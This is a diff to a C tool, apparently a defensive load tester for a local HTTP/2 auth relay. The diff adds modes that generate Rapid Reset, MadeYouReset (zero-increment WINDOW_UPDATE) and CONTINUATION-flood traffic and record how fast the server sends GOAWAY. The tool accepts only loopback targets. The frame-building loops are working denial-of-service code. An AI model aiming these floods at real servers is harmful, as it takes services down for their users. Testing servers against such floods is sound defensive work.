@@ -1,4 +1,12 @@
-/* rapid_reset.c: an HTTP/2 "Rapid Reset" (CVE-2023-44487) load: streams opened and cancelled at once, loopback only */
+/*
+ * rapid_reset.c: HTTP/2 abuse loads against a relay on loopback, one per --mode:
+ *   rst           "Rapid Reset" (CVE-2023-44487): streams opened and cancelled at once by the client's RST_STREAM
+ *   wu0           "MadeYouReset" (CVE-2025-8671): streams opened, then WINDOW_UPDATE with increment 0 on each, which
+ *                 makes the server reset them
+ *   continuation  one HEADERS frame without END_HEADERS, then empty CONTINUATION frames without end
+ *   streams       streams that complete normally (at most 10 outstanding), as many as the connection takes
+ * Prints one RESULT line: streams sent, GOAWAYs seen, the time from the first write to the first GOAWAY, and its code.
+ */
 #include <arpa/inet.h>
 #include <errno.h>
 #include <fcntl.h>
@@ -60,7 +68,15 @@ typedef struct st_conn_t {
     SSL *ssl;
     uint32_t next_stream;
     int goaway;
+    uint32_t goaway_code;
+    unsigned long long ended; /* streams the server ended: END_STREAM seen, or RST_STREAM */
+    uint8_t in[16384 + 9];    /* the server's frames, parsed as they come: a partial frame is kept here */
+    size_t inlen;
 } conn_t;
+
+static double first_goaway_at; /* seconds since start, 0 until one is seen */
+static uint32_t first_goaway_code;
+static double started_at;
 
 static int tcp_connect(const char *host, int port)
 {
@@ -79,7 +95,6 @@ static int conn_open(conn_t *c, SSL_CTX *ctx, const char *host, int port)
 {
     static const uint8_t alpn[] = {2, 'h', '2'};
     static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
-    uint8_t settings[9];
     memset(c, 0, sizeof(*c));
     if ((c->fd = tcp_connect(host, port)) == -1)
         return -1;
@@ -96,8 +111,17 @@ static int conn_open(conn_t *c, SSL_CTX *ctx, const char *host, int port)
         fprintf(stderr, "rapid_reset: the server did not select h2 (HTTP/2 off?)\n");
         return -2;
     }
-    frame(settings, 0, 0x4, 0, 0);
-    if (SSL_write(c->ssl, preface, sizeof(preface) - 1) <= 0 || SSL_write(c->ssl, settings, sizeof(settings)) <= 0)
+    /* SETTINGS_INITIAL_WINDOW_SIZE 2^31-1, and the connection's window opened as wide: responses never wait for us */
+    uint8_t settings[9 + 6 + 9 + 4];
+    size_t n = frame(settings, 6, 0x4, 0, 0);
+    static const uint8_t window[6] = {0, 4, 0x7f, 0xff, 0xff, 0xff};
+    memcpy(settings + n, window, 6);
+    n += 6;
+    n += frame(settings + n, 4, 0x8, 0, 0);
+    uint32_t inc = 0x7fffffffu - 65535;
+    settings[n++] = (uint8_t)(inc >> 24), settings[n++] = (uint8_t)(inc >> 16), settings[n++] = (uint8_t)(inc >> 8);
+    settings[n++] = (uint8_t)inc;
+    if (SSL_write(c->ssl, preface, sizeof(preface) - 1) <= 0 || SSL_write(c->ssl, settings, (int)n) <= 0)
         return -1;
     fcntl(c->fd, F_SETFL, fcntl(c->fd, F_GETFL) | O_NONBLOCK);
     c->next_stream = 1;
@@ -113,7 +137,27 @@ static void conn_close(conn_t *c)
     memset(c, 0, sizeof(*c));
 }
 
-/* reads and discards what the server sent; notes GOAWAY (frame type 7) and a closed connection; -1 when closed */
+/* one frame from the server: GOAWAY (7) with its code, streams ended (END_STREAM on HEADERS or DATA, RST_STREAM) */
+static void on_frame(conn_t *c, const uint8_t *f, size_t len)
+{
+    uint8_t type = f[3], flags = f[4];
+    if (type == 0x7 && len >= 8) {
+        if (!c->goaway)
+            c->goaway_code = (uint32_t)f[9 + 4] << 24 | (uint32_t)f[9 + 5] << 16 | (uint32_t)f[9 + 6] << 8 | f[9 + 7];
+        c->goaway = 1;
+        if (first_goaway_at == 0) {
+            if (getenv("RLY_H2_DEBUG") != NULL)
+                fprintf(stderr, "rapid_reset: GOAWAY after %u streams sent, %llu ended: %.*s\n", (c->next_stream - 1) / 2, c->ended,
+                        (int)(len - 8), (const char *)f + 9 + 8);
+            first_goaway_at = now() - started_at;
+            first_goaway_code = c->goaway_code;
+        }
+    } else if (type == 0x3 || ((type == 0x0 || type == 0x1) && (flags & 0x1) != 0)) {
+        ++c->ended;
+    }
+}
+
+/* reads what the server sent and parses its frames; -1 when the connection is closed */
 static int drain(conn_t *c, unsigned long long *bytes)
 {
     uint8_t buf[65536];
@@ -121,11 +165,24 @@ static int drain(conn_t *c, unsigned long long *bytes)
         int n = SSL_read(c->ssl, buf, sizeof(buf));
         if (n > 0) {
             *bytes += (unsigned long long)n;
-            /* a cheap scan: a GOAWAY frame header is 00 00 xx 07 00 00 00 00 00 */
-            for (int i = 0; i + 9 <= n; ++i)
-                if (buf[i + 3] == 0x07 && buf[i + 4] == 0 && buf[i] == 0 && buf[i + 5] == 0 && buf[i + 6] == 0 && buf[i + 7] == 0 &&
-                    buf[i + 8] == 0 && buf[i + 2] >= 8)
-                    c->goaway = 1;
+            for (int i = 0; i != n;) {
+                size_t take = sizeof(c->in) - c->inlen < (size_t)(n - i) ? sizeof(c->in) - c->inlen : (size_t)(n - i);
+                memcpy(c->in + c->inlen, buf + i, take);
+                c->inlen += take;
+                i += (int)take;
+                size_t off = 0;
+                while (c->inlen - off >= 9) {
+                    size_t flen = (size_t)c->in[off] << 16 | (size_t)c->in[off + 1] << 8 | c->in[off + 2];
+                    if (flen > sizeof(c->in) - 9)
+                        return -1; /* larger than the default SETTINGS_MAX_FRAME_SIZE we announced */
+                    if (c->inlen - off < 9 + flen)
+                        break;
+                    on_frame(c, c->in + off, flen);
+                    off += 9 + flen;
+                }
+                memmove(c->in, c->in + off, c->inlen - off);
+                c->inlen -= off;
+            }
             continue;
         }
         int err = SSL_get_error(c->ssl, n);
@@ -160,7 +217,7 @@ static int write_all(conn_t *c, const uint8_t *buf, size_t len, unsigned long lo
 
 int main(int argc, char **argv)
 {
-    const char *host = "127.0.0.1", *path = "/.well-known/authrelay";
+    const char *host = "127.0.0.1", *path = "/.well-known/authrelay", *mode = "rst";
     int port = 8443, conns = 1;
     double seconds = 10;
     for (int i = 1; i < argc; ++i) {
@@ -174,14 +231,21 @@ int main(int argc, char **argv)
             conns = (int)strtol(argv[++i], NULL, 10);
         else if (strcmp(argv[i], "--path") == 0 && i + 1 < argc)
             path = argv[++i];
+        else if (strcmp(argv[i], "--mode") == 0 && i + 1 < argc)
+            mode = argv[++i];
         else {
-            fprintf(stderr, "usage: rapid_reset [--host 127.0.0.1] [--port 8443] [--seconds 10] [--conns 1] [--path P]\n");
+            fprintf(stderr, "usage: rapid_reset [--host 127.0.0.1] [--port 8443] [--seconds 10] [--conns 1] [--path P]\n"
+                            "                   [--mode rst|wu0|continuation|streams]\n");
             return 2;
         }
     }
     struct in_addr a;
     if (inet_pton(AF_INET, host, &a) != 1 || (ntohl(a.s_addr) >> 24) != 127) {
         fprintf(stderr, "rapid_reset: loopback addresses only\n");
+        return 2;
+    }
+    if (strcmp(mode, "rst") != 0 && strcmp(mode, "wu0") != 0 && strcmp(mode, "continuation") != 0 && strcmp(mode, "streams") != 0) {
+        fprintf(stderr, "rapid_reset: --mode rst, wu0, continuation or streams\n");
         return 2;
     }
     if (seconds <= 0 || seconds > 120 || conns < 1 || conns > 64) {
@@ -206,6 +270,7 @@ int main(int argc, char **argv)
         }
     }
     double start = now(), end = start + seconds;
+    started_at = start;
     while (now() < end) {
         for (int i = 0; i != conns; ++i) {
             conn_t *c = &cs[i];
@@ -219,27 +284,60 @@ int main(int argc, char **argv)
                 ++reconnects;
             }
             size_t n = 0;
-            for (int s = 0; s != BATCH; ++s) {
+            int count = BATCH;
+            if (mode[0] == 's') {
+                /* at most 10 outstanding: wait for the server to end streams before sending more */
+                unsigned long long sent = (c->next_stream - 1) / 2;
+                if (sent - c->ended >= 10) {
+                    struct pollfd pfd = {c->fd, POLLIN, 0};
+                    poll(&pfd, 1, 10);
+                    if (drain(c, &bytes) != 0) {
+                        conn_close(c);
+                        ++reconnects;
+                    }
+                    continue;
+                }
+                count = (int)(10 - (sent - c->ended));
+            }
+            if (mode[0] == 'c' && c->next_stream != 1) {
+                for (int s = 0; s != BATCH; ++s)
+                    n += frame(batch + n, 0, 0x9, 0, c->next_stream - 2); /* CONTINUATION, empty, no END_HEADERS */
+                count = 0;
+            }
+            for (int s = 0; s != count; ++s) {
                 uint32_t id = c->next_stream;
                 c->next_stream += 2;
+                if (mode[0] == 'c') {
+                    n += frame(batch + n, hblen, 0x1, 0x1, id); /* HEADERS, END_STREAM, no END_HEADERS */
+                    memcpy(batch + n, hb, hblen);
+                    n += hblen;
+                    break;
+                }
                 n += frame(batch + n, hblen, 0x1, 0x5, id); /* HEADERS, END_STREAM | END_HEADERS */
                 memcpy(batch + n, hb, hblen);
                 n += hblen;
-                n += frame(batch + n, 4, 0x3, 0, id);                           /* RST_STREAM */
-                batch[n++] = 0, batch[n++] = 0, batch[n++] = 0, batch[n++] = 8; /* CANCEL */
+                if (mode[0] == 'r') {
+                    n += frame(batch + n, 4, 0x3, 0, id);                           /* RST_STREAM */
+                    batch[n++] = 0, batch[n++] = 0, batch[n++] = 0, batch[n++] = 8; /* CANCEL */
+                } else if (mode[0] == 'w') {
+                    n += frame(batch + n, 4, 0x8, 0, id); /* WINDOW_UPDATE, increment 0 */
+                    batch[n++] = 0, batch[n++] = 0, batch[n++] = 0, batch[n++] = 0;
+                }
             }
             if (write_all(c, batch, n, &bytes) != 0 || drain(c, &bytes) != 0) {
                 conn_close(c);
                 ++reconnects;
                 continue;
             }
-            streams += BATCH;
+            streams += (unsigned long long)count;
         }
     }
     double took = now() - start;
-    printf("RESULT rapid_reset h2=yes conns=%d seconds=%.1f streams=%llu rate=%.0f reconnects=%llu goaways=%llu "
-           "bytes_from_server=%llu\n",
-           conns, took, streams, streams / took, reconnects, goaways, bytes);
+    for (int i = 0; i != conns; ++i)
+        goaways += cs[i].goaway;
+    printf("RESULT rapid_reset h2=yes mode=%s conns=%d seconds=%.1f streams=%llu rate=%.0f reconnects=%llu goaways=%llu "
+           "first_goaway_ms=%.0f goaway_code=%u bytes_from_server=%llu\n",
+           mode, conns, took, streams, streams / took, reconnects, goaways, first_goaway_at * 1000, first_goaway_code, bytes);
     for (int i = 0; i != conns; ++i)
         conn_close(&cs[i]);
     free(cs);
